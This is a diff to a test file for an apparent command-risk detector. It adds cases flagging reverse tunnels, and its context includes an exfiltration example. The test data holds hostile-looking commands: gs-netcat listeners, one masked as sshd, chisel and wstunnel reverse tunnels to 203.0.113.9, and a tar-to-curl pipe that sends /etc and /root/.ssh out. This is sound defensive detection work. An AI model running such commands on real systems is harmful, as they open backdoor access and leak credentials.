@@ -12,6 +12,18 @@ describe('folders shown to whoever asks', () => {
 	});
 });
 
+describe('tunnels that let somebody in', () => {
+	test.each([
+		['gs-netcat -s secret -l -i -q', 'high reverse-tunnel'], ['exec -a sshd /usr/bin/gs-netcat -liqs x', 'high reverse-tunnel'], ['chisel client https://203.0.113.9 R:socks', 'high reverse-tunnel'], ['./agent -connect 203.0.113.9:11601 -ignore-cert', 'high reverse-tunnel'],
+		['wstunnel client -R tcp://2222:localhost:22 wss://203.0.113.9', 'high reverse-tunnel'], ['frpc -c /etc/frp/frpc.ini', 'medium reverse-tunnel'], ['ngrok tcp 22 --log=stdout', 'medium reverse-tunnel'], ['cloudflared tunnel --url ssh://localhost:22', 'medium reverse-tunnel'], ['bore local 22 --to bore.pub', 'medium reverse-tunnel'], ['iodine -f -P x t.example.net', 'medium reverse-tunnel'], ['tmate -F', 'medium reverse-tunnel'],
+	])('%s', (text, expected) => {
+		expect(kinds(text)).toContain(expected);
+	});
+	test.each(['cloudflared tunnel run --token x', 'cloudflared tunnel --config /etc/cloudflared/config.yml run', 'agent --connect db.example.com', 'ssh -N -R 8080:localhost:80 ann@bastion.example.com', 'gost', 'iodine', 'echo chisel client R:socks', 'ngrok config check', 'npc'])('not %s', text => {
+		expect(kinds(text)).toEqual([]);
+	});
+});
+
 describe('what leaves the host', () => {
 	test.each([
 		['tar cz /etc /root/.ssh | curl -s -T - http://203.0.113.9/u', 'medium data-sent'],
